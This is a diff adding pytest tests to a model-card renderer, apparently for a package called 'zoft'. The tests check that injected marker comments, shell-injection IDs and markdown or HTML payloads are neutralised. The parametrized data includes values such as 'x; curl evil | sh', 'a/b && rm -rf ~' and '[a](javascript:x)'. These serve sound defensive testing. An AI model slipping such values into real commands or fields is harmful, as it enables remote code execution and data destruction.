@@ -85,3 +85,50 @@ def test_hand_written_text_survives_any_number_of_pushes(card: Card, cards, body
     other = render(cards(1), PUBLICATION, marked)
     assert other.endswith(after) and body.strip() in other
     assert render(card, PUBLICATION, other) == marked
+
+
+END_MARKS = ["<!-- zoft: end -->", "<!-- zoft: begin -->", f"{BEGIN} x {END}", "a\n\n<!-- zoft: end -->\n# own heading"]
+
+
+@pytest.mark.parametrize("text", END_MARKS)
+@pytest.mark.parametrize("field", ["verdict", "note", "id", "task", "version", "evidence"])
+def test_marks_in_a_card_do_not_block_later_pushes(card: Card, text: str, field: str) -> None:
+    """Wherever a card holds text: the page has each mark once, and is what a person wrote, pushed again."""
+    line = " ".join(text.split())
+    metadata = card.metadata
+    (row,) = metadata.evidence
+    changed = {
+        "verdict": {"verdict": text},
+        "note": {"base": metadata.base.model_copy(update={"source_note": text})},
+        "id": {"base": metadata.base.model_copy(update={"id": line})},
+        "task": {"training": metadata.training.model_copy(update={"tasks": (line,)})},
+        "version": {"training": metadata.training.model_copy(update={"versions": {line: line}})},
+        "evidence": {"evidence": (row.model_copy(update={"name": line, "task": line, "split": line}),)},
+    }[field]
+    other = Card(metadata.model_copy(update=changed), card.tensors)
+    page = render(other, PUBLICATION, "mine before\n")
+    assert (page.count("<!-- zoft: begin"), page.count("<!-- zoft: end -->")) == (1, 1)
+    assert render(other, PUBLICATION, page) == page
+    assert "mine before" in render(card, PUBLICATION, page)
+
+
+@pytest.mark.parametrize(
+    "name", ["x; curl evil | sh", "$(touch x)", "a/b && rm -rf ~", "`id`", "../up", "-rf", "a b/c", "org/base@v1;x"]
+)
+def test_a_command_to_copy_holds_valid_ids_only(card: Card, name: str) -> None:
+    """Of the card, and of the front matter that a person wrote."""
+    base = card.metadata.base.model_copy(update={"id": name})
+    evil = Card(card.metadata.model_copy(update={"base": base}), card.tensors)
+    for page in (render(evil, PUBLICATION), render(evil, PUBLICATION, f"---\nbase_model: '{name}'\n---\n")):
+        shell = page.split("```bash")[1].split("```")[0].splitlines()
+        assert shell == ["", "pip install zoft"]
+    shell = render(evil, Publication("org/t", base_model="org/base")).split("```bash")[1].split("```")[0]
+    assert shell.splitlines() == ["", "pip install zoft", "zoft finetune org/base --task sst2 --tuner org/t"]
+
+
+@pytest.mark.parametrize(
+    "text", ["# head", "- x", "1. x", "> x", "[a](javascript:x)", "![](http://t/p)", "<img src=x>"]
+)
+def test_a_verdict_is_shown_and_does_nothing(card: Card, text: str) -> None:
+    page = render(Card(card.metadata.model_copy(update={"verdict": text}), card.tensors), PUBLICATION)
+    assert f"\n{text}" not in page and "<img" not in page and "](" not in page.replace(r"\](", "")
